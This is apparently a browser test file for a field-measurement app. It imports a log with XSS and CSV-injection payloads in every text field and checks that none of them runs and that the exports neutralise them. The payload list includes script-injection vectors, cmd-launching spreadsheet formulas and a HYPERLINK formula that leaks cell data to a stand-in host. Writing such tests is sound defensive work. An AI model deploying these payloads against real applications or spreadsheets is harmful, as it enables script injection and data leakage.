// Script payloads in every text field of a log, imported through the Send screen of the production build in
// Chromium, then every screen visited: no payload runs (the flag each would set stays unset, no dialog opens),
// the policy reports no violation (none was even attempted: the screens render text as text), each payload is
// shown as the literal text it is, and the JSON and CSV exports carry the text inert (CSV neutralised).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFile } from 'node:fs/promises';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { exportLog } from '../../src/log/export';
import type { LogRecord } from '../../src/log/types';
import { drop as demoDrop, reading as demoReading, series as demoSeries, site as demoSite, steelBall } from '../log/demo-bodies';
import { parseCsv, spreadsheetCells } from '../log/csv-reader';
import { idMaker, makeRecord, revise } from '../sync/sample-log';
import { PHONE, baseUrl, collectErrors, expectVisible, haveChromium, launchBrowser } from './harness';
import { collectLogErrors, violations, walkEveryScreen, watchViolations } from './csp-watch';

/**
 * Markup, script and formula payloads (the usual families of the OWASP XSS filter evasion and CSV injection
 * lists, from memory). Each one that could run sets window.__xss or opens a dialog.
 */
const PAYLOADS = [
  `<img src=x onerror="window.__xss='img onerror'">`,
  `"><script>window.__xss='script'</script>`,
  `'><svg onload="window.__xss='svg onload'"></svg>`,
  `javascript:window.__xss='javascript url'`,
  `<a href="javascript:alert('link')">open</a>`,
  `{{constructor.constructor('window.__xss="template"')()}}`,
  '${alert(`template literal`)}',
  `<iframe srcdoc="<script>parent.__xss='iframe'</script>"></iframe>`,
  `</textarea><script>alert('textarea')</script>`,
  `<style>*{display:none}</style><math><mtext><img src=x onerror=alert('math')>`,
  `<details open ontoggle="window.__xss='details'">`,
  `=HYPERLINK("http://example.invalid/?leak="&A1,"open")`,
  `x;=1+1`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+1`,
];
const ALL = PAYLOADS.join('\n');

/** A log with a payload in every text field: names, notes, crew, instrument, exclusion reasons, an edit's reason. */
function hostileLog(): { text: string; dayId: string } {
  const nextId = idMaker(13);
  const device = 'officeTest';
  let ms = Date.UTC(2026, 5, 14, 8, 0, 0);
  const tick = () => (ms += 1000);
  const records: LogRecord[] = [];
  const site = makeRecord('site', nextId(), { ...demoSite(), name: PAYLOADS[1]!, notes: ALL }, tick(), device);
  records.push(revise(site, { notes: `${ALL}\nedited` }, tick(), device, PAYLOADS[0]!));
  const day = makeRecord('day', nextId(), { site_id: site.id, date: '2026-06-14', crew: PAYLOADS, notes: ALL }, tick(), device);
  records.push(day);
  const reading = makeRecord('reading', nextId(), { ...demoReading(), day_id: day.id, instrument: PAYLOADS[2]!, notes: ALL }, tick(), device);
  records.push(reading);
  PAYLOADS.forEach((payload, i) => {
    const specimen = makeRecord('specimen', nextId(), { ...steelBall(), name: payload, notes: `${payload} (specimen ${i + 1})` }, tick(), device);
    const series = makeRecord('series', nextId(), { ...demoSeries(), day_id: day.id, specimen_id: specimen.id, notes: payload }, tick(), device);
    records.push(specimen, series);
    for (let seq = 1; seq <= 3; seq++) {
      const excluded = seq === 3;
      const body = { ...demoDrop(seq), series_id: series.id, time_s: 1.121 + seq / 1000, note: payload, excluded, exclusion_reason: excluded ? payload : null };
      body.raw = { kind: 'taps', timestamps_ms: [10_000, 10_000 + Math.round(body.time_s * 1000)] };
      records.push(makeRecord('drop', nextId(), body, tick(), device));
    }
  });
  return { text: exportLog(records, { device, app_version: '0.1.0' }), dayId: day.id };
}

/** Does this cell start a formula in a spreadsheet (after control characters it may drop)? Numbers are numbers. */
const formulaCell = (cell: string) => /^[\u0000-\u001f\u007f]*[=+\-@]/.test(cell) && !Number.isFinite(Number(cell));

describe.skipIf(!haveChromium)('script payloads in every text field of an imported log', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let errors: string[];
  let logErrors: string[];
  const dialogs: string[] = [];
  const log = hostileLog();
  beforeAll(async () => {
    browser = await launchBrowser();
    context = await browser.newContext(PHONE);
    page = await context.newPage();
    await watchViolations(page);
    errors = collectErrors(page);
    logErrors = await collectLogErrors(page);
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
  });
  afterAll(async () => {
    await browser?.close();
  });

  const unharmed = async () => {
    expect(await page.evaluate(() => window.__xss)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(await violations(page)).toEqual([]);
  };

  it('imports the log through the Send screen', async () => {
    await page.goto(`${baseUrl}/#/send`);
    const chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: 'Import a log file' }).click();
    await (await chooser).setFiles({ name: 'hostile.json', mimeType: 'application/json', buffer: Buffer.from(log.text) });
    await page.getByRole('button', { name: 'Merge into this log' }).click();
    await expectVisible(page.getByText(/^Imported: \d+ added/));
    await unharmed();
  });

  it('runs none of them on any screen, and shows each as the text it is', async () => {
    const { visited } = await walkEveryScreen(page);
    expect(visited).toContain(`#/day/${log.dayId}/summary`);
    expect(visited.filter((h) => h.includes('/series/'))).toHaveLength(PAYLOADS.length);
    // The specimen list names every specimen by its payload, as literal text.
    await page.evaluate(() => (location.hash = '#/specimens'));
    for (const payload of PAYLOADS) await expectVisible(page.getByText(payload, { exact: true }));
    // A search for a payload on the Log screen.
    await page.evaluate(() => (location.hash = '#/log'));
    await page.locator('#log-search').fill(PAYLOADS[1]!);
    await unharmed();
    expect(errors).toEqual([]);
    expect(logErrors).toEqual([]);
  });

  it('exports the log as JSON holding every payload as the same text', async () => {
    await page.evaluate(() => (location.hash = '#/send'));
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Send as a log file (JSON)' }).click();
    const text = await readFile((await (await download).path())!, 'utf8');
    const file = JSON.parse(text) as { records: Array<Record<string, unknown>> };
    const texts = new Set(file.records.flatMap((r) => [r.name, r.notes, r.note, r.exclusion_reason, r.instrument, ...((r.crew as string[] | undefined) ?? [])]));
    for (const payload of PAYLOADS) expect(texts.has(payload), payload).toBe(true);
    await unharmed();
  });

  it('exports CSV tables in which no cell starts a formula, whatever separator the spreadsheet splits on', async () => {
    const downloads: Promise<string>[] = [];
    page.on('download', (d) => downloads.push(d.path().then((p) => readFile(p!, 'utf8'))));
    await page.getByRole('button', { name: 'Tables for a spreadsheet (CSV)' }).click();
    await expectVisible(page.getByText(/^Saved as a file on this phone \(two CSV files, one row per drop and one row per series/));
    await expect.poll(() => downloads.length, { timeout: 20_000 }).toBe(2);
    const [drops, series] = await Promise.all(downloads);
    for (const table of [drops!, series!]) {
      const rows = parseCsv(table.replace(/^\ufeff/, ''));
      expect(rows.length).toBeGreaterThan(1);
      expect(rows.flat().filter(formulaCell)).toEqual([]);
      for (const separator of [',', ';', '\t']) expect(spreadsheetCells(table, separator).filter(formulaCell), separator).toEqual([]);
    }
    // The payloads are there, neutralised: a formula start behind a single quote.
    const cells = new Set(parseCsv(drops!.replace(/^\ufeff/, '')).flat());
    expect(cells.has(`'=HYPERLINK("http://example.invalid/?leak="&A1,"open")`)).toBe(true);
    expect(cells.has(`x;'=1+1`)).toBe(true);
    expect(cells.has(PAYLOADS[0]!)).toBe(true);
    await unharmed();
  });
});
